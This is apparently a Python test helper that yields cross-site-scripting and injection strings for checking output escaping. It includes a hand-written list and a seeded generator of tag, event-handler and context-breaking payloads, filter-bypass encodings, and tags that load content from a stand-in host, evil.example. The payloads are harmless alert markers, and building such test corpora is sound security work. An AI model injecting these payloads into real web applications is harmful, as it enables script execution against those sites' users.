"""Texts that try to run as scripts or to fetch something: written by hand, the others made from a seed."""

import random
from collections.abc import Iterator

HOME = "https://evil.example"
BY_HAND = (
    "<script>{js}</script>",
    '"><script>{js}</script>',
    "'><img src=x onerror={js}>",
    "<svg/onload={js}>",
    '<img src="{home}/{mark}.png">',
    '" autofocus onfocus="{js}" x="',
    "' onmouseover='{js}",
    "</textarea><script>{js}</script>",
    "</title><svg onload={js}>",
    "</pre></td></tr></table><iframe srcdoc='<script>{js}</script>'>",
    "<a href=javascript:{js}>link</a>",
    "javascript:{js}",
    "{{{{ 7*7 }}}}{{% for x in y %}}<script>{js}</script>",
    "${{alert('{mark}')}}",
    "<base href={home}/>",
    "<meta http-equiv=refresh content='0;url={home}/{mark}'>",
    "<link rel=stylesheet href={home}/{mark}.css>",
    "<style>@import '{home}/{mark}';*{{background:url({home}/b)}}</style>",
    "<math><mtext></p><style><a title='</style><img src onerror={js}>'></math>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<form action={home}><button autofocus>go</button></form>",
    "<object data={home}/{mark}></object><embed src={home}/{mark}>",
    "<video><source onerror={js}></video>",
    "<details open ontoggle={js}>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "\\u003cscript\\u003e{js}",
    "-->]]><script>{js}</script><!--",
    "<scr\u0000ipt>{js}</scr\u0000ipt>",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "+ADw-script+AD4-{js}",
    "<x onclick={js} style=position:fixed;inset:0>over all",
    "\u202e<script>{js}</script>",
)
_BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</script>",
    "</option></select>",
    "`",
)
_TAGS = (
    "img",
    "svg",
    "script",
    "iframe",
    "body",
    "input",
    "video",
    "details",
    "a",
    "object",
    "math",
    "marquee",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
)
_SOURCES = (
    "src=x",
    "href=javascript:{js}",
    "src={home}/{mark}",
    "srcdoc=<script>{js}</script>",
    "data={home}",
    "",
)
_SPACES = (" ", "/", "\t", "  ")
_QUOTES = ("{}", '"{}"', "'{}'")


def payloads(count: int, seed: int) -> Iterator[tuple[str, str]]:
    """Yield `count` pairs of a mark of its own and the text that carries it; no text holds a line break."""
    chance = random.Random(seed)
    for number in range(count):
        mark = f"xq{number}z"
        form = BY_HAND[number] if number < len(BY_HAND) else _made(chance)
        yield mark, f"{mark} " + form.format(js=f"alert('{mark}')", mark=mark, home=HOME)


def _made(chance: random.Random) -> str:
    tag, space = chance.choice(_TAGS), chance.choice(_SPACES)
    event = chance.choice(_EVENTS) + "=" + chance.choice(_QUOTES).format("{js}")
    parts = [tag, chance.choice(_SOURCES), event, chance.choice(("autofocus", "tabindex=0", "open", ""))]
    if chance.random() < 0.3:
        parts[0] = "".join(letter.upper() if chance.random() < 0.5 else letter for letter in tag)
    made = f"{chance.choice(_BREAKS)}<{space.join(part for part in parts if part)}>"
    return made + (f"{{js}}</{tag}>" if tag in ("script", "a") else chance.choice(("", "</b>", "{js}")))
